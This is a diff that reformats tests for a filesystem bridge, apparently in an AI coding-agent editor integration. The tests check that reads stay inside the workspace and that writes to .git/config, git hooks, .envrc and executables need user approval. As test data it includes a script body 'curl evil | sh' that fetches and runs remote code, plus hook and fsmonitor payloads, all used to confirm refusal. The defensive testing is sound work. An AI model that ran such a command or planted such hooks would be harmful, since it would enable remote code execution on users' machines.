@@ -3,7 +3,16 @@ import assert from "node:assert/strict";
 import * as fs from "node:fs";
 import * as os from "node:os";
 import * as path from "node:path";
-import { FsBridge, isInside, realPathOfMaybeMissing, sliceLines, type DocumentHost, type SensitiveWrite, type WriteApprover, type WriteDecision } from "../../src/bridges/fs";
+import {
+  FsBridge,
+  isInside,
+  realPathOfMaybeMissing,
+  sliceLines,
+  type DocumentHost,
+  type SensitiveWrite,
+  type WriteApprover,
+  type WriteDecision,
+} from "../../src/bridges/fs";
 import { CancellationSource } from "../../src/protocol/cancellation";
 import { nullLogger } from "../../src/protocol/log";
 import { RequestError } from "../../src/protocol/types";
@@ -131,8 +140,9 @@ test("a host failure becomes an InternalError answer", { skip }, async () => {
     throw new Error("editor said no");
   };
   const b = bridge(host);
-  await assert.rejects(b.writeTextFile({ sessionId: "s", path: path.join(ws, "z.txt"), content: "x" }), (e: unknown) =>
-    e instanceof RequestError && e.code === -32603 && /editor said no/.test(e.message),
+  await assert.rejects(
+    b.writeTextFile({ sessionId: "s", path: path.join(ws, "z.txt"), content: "x" }),
+    (e: unknown) => e instanceof RequestError && e.code === -32603 && /editor said no/.test(e.message),
   );
 });
 
@@ -140,8 +150,9 @@ test("reads are confined to the workspace folders too (symlinks resolved), unles
   fs.writeFileSync(path.join(outside, "secret.txt"), "s3cr3t");
   const host = new FakeHost([ws]);
   const b = bridge(host);
-  await assert.rejects(b.readTextFile({ sessionId: "s", path: path.join(outside, "secret.txt") }), (e: unknown) =>
-    e instanceof RequestError && e.code === -32602 && /refusing to read .*outside the workspace/.test(e.message),
+  await assert.rejects(
+    b.readTextFile({ sessionId: "s", path: path.join(outside, "secret.txt") }),
+    (e: unknown) => e instanceof RequestError && e.code === -32602 && /refusing to read .*outside the workspace/.test(e.message),
   );
   fs.symlinkSync(path.join(outside, "secret.txt"), path.join(ws, "innocent.txt"));
   await assert.rejects(b.readTextFile({ sessionId: "s", path: path.join(ws, "innocent.txt") }), /outside the workspace/);
@@ -149,7 +160,9 @@ test("reads are confined to the workspace folders too (symlinks resolved), unles
   host.open.set(path.join(outside, "open.txt"), "buffer");
   await assert.rejects(b.readTextFile({ sessionId: "s", path: path.join(outside, "open.txt") }), /outside the workspace/);
   await assert.rejects(bridge(new FakeHost([])).readTextFile({ sessionId: "s", path: path.join(ws, "open.txt") }), /no workspace folder/);
-  assert.deepEqual(await bridge(host, true).readTextFile({ sessionId: "s", path: path.join(outside, "secret.txt") }), { content: "s3cr3t" });
+  assert.deepEqual(await bridge(host, true).readTextFile({ sessionId: "s", path: path.join(outside, "secret.txt") }), {
+    content: "s3cr3t",
+  });
 });
 
 test("a dangling symlink inside the workspace cannot be used to create a file outside it", { skip }, async () => {
@@ -185,7 +198,10 @@ test("a write to .git/config asks; Refuse answers permission denied and touches 
   assert.equal(host.writes.length, 0);
   assert.equal(fs.readFileSync(config, "utf8"), "[core]\n\tbare = false\n");
   const w = approver.asked[0]!;
-  assert.deepEqual([w.realPath, w.reason, w.exists, w.executable, w.oldText, w.newText], [config, "git", true, false, "[core]\n\tbare = false\n", evil]);
+  assert.deepEqual(
+    [w.realPath, w.reason, w.exists, w.executable, w.oldText, w.newText],
+    [config, "git", true, false, "[core]\n\tbare = false\n", evil],
+  );
   assert.match(w.why, /core\.fsmonitor/);
 });
 
@@ -210,7 +226,10 @@ test("a link named like an ordinary file that leads into .git is asked about by 
   const host = new FakeHost([ws]);
   const approver = new ScriptedApprover(["refuse"]);
   const hook = path.join(ws, "notes", "hooks", "pre-commit");
-  await assert.rejects(bridge(host, false, approver).writeTextFile({ sessionId: "s", path: hook, content: "#!/bin/sh\nid\n" }), /permission denied/);
+  await assert.rejects(
+    bridge(host, false, approver).writeTextFile({ sessionId: "s", path: hook, content: "#!/bin/sh\nid\n" }),
+    /permission denied/,
+  );
   assert.equal(approver.asked[0]!.realPath, path.join(git, "hooks", "pre-commit"));
   assert.equal(approver.asked[0]!.path, hook);
   assert.deepEqual(approver.asked[0]!.shown, { path: hook, realPath: path.join(git, "hooks", "pre-commit") });
@@ -226,7 +245,10 @@ test("an executable keeps its mode only after the question", { skip }, async () 
   fs.writeFileSync(script, "#!/bin/sh\necho hi\n", { mode: 0o755 });
   const host = new FakeHost([ws]);
   const refused = new ScriptedApprover(["refuse"]);
-  await assert.rejects(bridge(host, false, refused).writeTextFile({ sessionId: "s", path: script, content: "#!/bin/sh\ncurl evil | sh\n" }), /permission denied/);
+  await assert.rejects(
+    bridge(host, false, refused).writeTextFile({ sessionId: "s", path: script, content: "#!/bin/sh\ncurl evil | sh\n" }),
+    /permission denied/,
+  );
   assert.equal(refused.asked[0]!.reason, "executable");
   assert.equal(refused.asked[0]!.executable, true);
   assert.equal(fs.readFileSync(script, "utf8"), "#!/bin/sh\necho hi\n");
@@ -239,8 +261,9 @@ test("an executable keeps its mode only after the question", { skip }, async () 
 test("with no one to ask, a sensitive write is refused; ordinary files are not asked about", { skip }, async () => {
   const host = new FakeHost([ws]);
   const envrc = path.join(ws, ".envrc");
-  await assert.rejects(bridge(host).writeTextFile({ sessionId: "s", path: envrc, content: "export X=1" }), (e: unknown) =>
-    e instanceof RequestError && e.code === -32603 && /needs the user's permission and no one can be asked/.test(e.message),
+  await assert.rejects(
+    bridge(host).writeTextFile({ sessionId: "s", path: envrc, content: "export X=1" }),
+    (e: unknown) => e instanceof RequestError && e.code === -32603 && /needs the user's permission and no one can be asked/.test(e.message),
   );
   assert.equal(fs.existsSync(envrc), false);
   const approver = new ScriptedApprover([]);
@@ -250,6 +273,9 @@ test("with no one to ask, a sensitive write is refused; ordinary files are not a
   const late = new ScriptedApprover(["allow"]);
   const src = new CancellationSource();
   src.cancel();
-  await assert.rejects(bridge(host, false, late).writeTextFile({ sessionId: "s", path: envrc, content: "x" }, src.token), /permission denied/);
+  await assert.rejects(
+    bridge(host, false, late).writeTextFile({ sessionId: "s", path: envrc, content: "x" }, src.token),
+    /permission denied/,
+  );
   assert.equal(fs.existsSync(envrc), false);
 });
